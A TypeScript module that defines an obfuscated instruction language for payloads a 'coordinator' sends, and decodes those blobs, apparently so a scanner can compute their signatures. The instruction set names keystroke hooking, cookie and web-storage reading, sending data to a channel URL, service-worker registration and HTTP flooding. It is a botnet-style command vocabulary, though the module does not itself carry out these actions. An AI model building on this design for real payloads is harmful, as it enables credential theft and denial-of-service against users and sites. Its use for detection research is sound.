/**
 * Payload DSL: the data-only instruction programs the coordinator
 * delivers, plus the inverse of the seed-keyed obfuscation transform.
 *
 * The transform derives everything from SHA-256 over (seed, domain tag,
 * input) - keyword aliases, key order, the XOR keystream - so undoing it
 * here needs nothing but WebCrypto: decode base64, XOR with the keystream,
 * parse JSON, swap aliases back to keywords.
 */

export class CorruptBlob extends Error {}

export type Instruction =
  | { op: "OpenSocket"; url: string }
  | { op: "HookKeystrokes" }
  | { op: "ReadCookies" }
  | { op: "ReadWebStorage" }
  | { op: "Send"; channel_url: string; what: "Keystrokes" | "Storage" | "MapResult" }
  | { op: "SpawnWorkerFromBlob"; script_origin_url: string; inner: Instruction[] }
  | { op: "RegisterServiceWorker"; inner: Instruction[] }
  | { op: "ComputeMap"; fn_id: "WordCount" | "SumOfSquares" }
  | { op: "HttpFlood"; target: string; rate: number; duration: number };

export interface Payload {
  payload_id: string;
  instructions: Instruction[];
  trigger: { kind: string; token?: string; tick?: number };
}

const OPS = [
  "ComputeMap",
  "HookKeystrokes",
  "HttpFlood",
  "OpenSocket",
  "ReadCookies",
  "ReadWebStorage",
  "RegisterServiceWorker",
  "Send",
  "SpawnWorkerFromBlob",
];

const FIELD_KEYS = [
  "payload_id", "instructions", "trigger",
  "op", "url", "channel_url", "what", "script_origin_url",
  "inner", "fn_id", "target", "rate", "duration",
  "kind", "token", "tick",
];

const ENUM_VALUES = [
  "Keystrokes", "Storage", "MapResult",
  "WordCount", "SumOfSquares",
  "OnEvent", "AtTick", "Immediate",
];

export const VOCAB: string[] = [...new Set([...OPS, ...FIELD_KEYS, ...ENUM_VALUES])].sort();

// Fields whose values are DSL keywords and travel aliased.
const ENUM_VALUE_KEYS = new Set(["op", "kind", "what", "fn_id"]);

const encoder = new TextEncoder();

function seedBytes(seed: number): Uint8Array {
  if (!Number.isSafeInteger(seed) || seed < 0) {
    throw new CorruptBlob(`unsupported seed ${seed}`);
  }
  const out = new Uint8Array(8);
  let big = BigInt(seed);
  for (let i = 7; i >= 0; i--) {
    out[i] = Number(big & 0xffn);
    big >>= 8n;
  }
  return out;
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const total = parts.reduce((n, p) => n + p.length, 0);
  const out = new Uint8Array(total);
  let offset = 0;
  for (const part of parts) {
    out.set(part, offset);
    offset += part.length;
  }
  return out;
}

async function sha256(data: Uint8Array): Promise<Uint8Array> {
  const digest = await crypto.subtle.digest("SHA-256", data as BufferSource);
  return new Uint8Array(digest);
}

function toHex(bytes: Uint8Array): string {
  return Array.from(bytes, (b) => b.toString(16).padStart(2, "0")).join("");
}

async function alias(seed: number, token: string): Promise<string> {
  const digest = await sha256(concat(seedBytes(seed), encoder.encode("|rename|"), encoder.encode(token)));
  return "_" + toHex(digest).slice(0, 12);
}

/** alias -> keyword for this seed, over the full DSL vocabulary. */
export async function inverseAliasMap(seed: number): Promise<Map<string, string>> {
  const inverse = new Map<string, string>();
  for (const token of VOCAB) {
    inverse.set(await alias(seed, token), token);
  }
  return inverse;
}

async function keystream(seed: number, length: number): Promise<Uint8Array> {
  const blocks: Uint8Array[] = [];
  let counter = 0n;
  while (blocks.length * 32 < length) {
    const counterBytes = new Uint8Array(8);
    let value = counter;
    for (let i = 7; i >= 0; i--) {
      counterBytes[i] = Number(value & 0xffn);
      value >>= 8n;
    }
    blocks.push(await sha256(concat(seedBytes(seed), encoder.encode("|stream|"), counterBytes)));
    counter += 1n;
  }
  return concat(...blocks).slice(0, length);
}

export function base64ToBytes(b64: string): Uint8Array {
  if (typeof atob === "function") {
    const raw = atob(b64);
    const out = new Uint8Array(raw.length);
    for (let i = 0; i < raw.length; i++) out[i] = raw.charCodeAt(i);
    return out;
  }
  return Uint8Array.from(Buffer.from(b64, "base64"));
}

function unmask(node: unknown, inverse: Map<string, string>): unknown {
  if (Array.isArray(node)) {
    return node.map((item) => unmask(item, inverse));
  }
  if (typeof node === "object" && node !== null) {
    const plain: Record<string, unknown> = {};
    for (const [key, value] of Object.entries(node)) {
      const name = inverse.get(key);
      if (name === undefined) throw new CorruptBlob(`unknown field alias ${key}`);
      if (ENUM_VALUE_KEYS.has(name)) {
        const word = inverse.get(value as string);
        if (word === undefined) throw new CorruptBlob(`unknown value alias for ${name}`);
        plain[name] = word;
      } else {
        plain[name] = unmask(value, inverse);
      }
    }
    return plain;
  }
  return node;
}

function checkPayloadShape(value: unknown): Payload {
  const obj = value as Record<string, unknown>;
  if (
    typeof obj !== "object" ||
    obj === null ||
    typeof obj.payload_id !== "string" ||
    !Array.isArray(obj.instructions) ||
    typeof obj.trigger !== "object"
  ) {
    throw new CorruptBlob("blob does not decode to a payload");
  }
  if (obj.instructions.length === 0) throw new CorruptBlob("empty instruction program");
  return obj as unknown as Payload;
}

/** Invert the obfuscation transform for the blob's seed. */
export async function normalizeBlob(blobB64: string, seed: number): Promise<Payload> {
  let bytes: Uint8Array;
  try {
    bytes = base64ToBytes(blobB64);
  } catch {
    throw new CorruptBlob("bad base64");
  }
  const stream = await keystream(seed, bytes.length);
  const plain = new Uint8Array(bytes.length);
  for (let i = 0; i < bytes.length; i++) plain[i] = bytes[i] ^ stream[i];
  let masked: unknown;
  try {
    masked = JSON.parse(new TextDecoder("utf-8", { fatal: true }).decode(plain));
  } catch {
    throw new CorruptBlob("blob does not decode");
  }
  if (typeof masked !== "object" || masked === null || Array.isArray(masked)) {
    throw new CorruptBlob("blob does not decode to an object");
  }
  const inverse = await inverseAliasMap(seed);
  return checkPayloadShape(unmask(masked, inverse));
}

/** Content signature: hex SHA-256 of the raw blob bytes, as a scanner
 * database would store it. */
export async function blobSignatureHex(blobB64: string): Promise<string> {
  return toHex(await sha256(base64ToBytes(blobB64)));
}

export function wordCount(chunk: string): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const token of chunk.split(/\s+/).filter(Boolean)) {
    counts[token] = (counts[token] ?? 0) + 1;
  }
  return counts;
}

export function sumOfSquares(chunk: string): Record<string, number> {
  let total = 0;
  for (const token of chunk.split(/\s+/).filter(Boolean)) {
    const n = Number(token);
    if (Number.isInteger(n)) total += n * n;
  }
  return { sum: total };
}
